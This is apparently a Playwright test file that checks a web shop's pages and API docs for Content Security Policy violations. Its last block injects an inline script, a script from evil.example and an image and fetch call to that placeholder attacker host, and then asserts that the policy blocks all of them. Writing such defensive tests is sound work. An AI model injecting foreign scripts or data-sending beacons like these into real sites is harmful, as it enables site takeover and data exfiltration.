import { expect } from "@playwright/test";
import { Faults } from "../fixtures/faults.ts";
import { test } from "../fixtures/looking.ts";
import { visit } from "../pictures/visit.ts";

test("every page runs under the content security policy, and so do the API docs", async ({
  gallery,
  browser,
}) => {
  test.setTimeout(300_000);
  const faults = new Faults();
  const forbidden = /The policy|Content Security Policy/;
  await visit(
    gallery,
    browser,
    "light",
    async () => {},
    (context) => faults.watch(context),
  );

  const shop = await gallery.wall("shop");
  const context = await browser.newContext({
    baseURL: shop.url,
    storageState: await gallery.signedIn("shop", browser),
  });
  await faults.watch(context);
  const docs = await context.newPage();
  await docs.goto("/api-docs/");
  const operations = docs.locator(".opblock-summary-control");
  await expect(operations.nth(30)).toBeVisible();
  for (const operation of (await operations.all()).slice(0, 12)) await operation.click();
  await expect(docs.locator(".opblock-body").nth(11)).toBeVisible();
  await docs.locator(".schemes .authorize").click();
  await expect(docs.locator(".modal-ux")).toBeVisible();
  expect(faults.of(forbidden)).toEqual([]);

  // The watch is not blind, and the policy holds: what an attacker would put into a page does not run.
  const page = await context.newPage();
  await page.goto("/");
  await page.evaluate(() => {
    const inline = document.createElement("script");
    inline.textContent = "document.title = 'taken over'";
    const foreign = document.createElement("script");
    foreign.src = "https://evil.example/x.js";
    const sent = document.createElement("img");
    sent.src = "https://evil.example/x.png";
    document.body.append(inline, foreign, sent);
  });
  await expect.poll(() => faults.of(/The policy (script-src-elem|img-src)/).length).toBe(3);
  await expect(page).not.toHaveTitle("taken over");
  const asked = await page.evaluate(() =>
    fetch("https://evil.example/")
      .then(() => "sent")
      .catch(() => "refused"),
  );
  expect(asked).toBe("refused");
  await context.close();
});
